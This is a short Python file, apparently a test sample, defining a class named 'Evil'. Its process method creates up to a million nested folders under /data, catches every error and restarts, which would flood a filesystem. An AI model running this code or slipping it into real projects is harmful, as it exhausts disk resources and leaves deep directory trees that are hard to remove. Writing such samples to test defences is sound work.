"""Makes a million folders, one in the other as far as paths go, and takes no error for an answer."""

import os


class Evil:
    def process(self, item):
        path = "/data"
        for number in range(1_000_000):
            try:
                os.mkdir(f"{path}/{number}")
                path = f"{path}/{number}"
            except OSError:
                path = "/data"
        return "made"
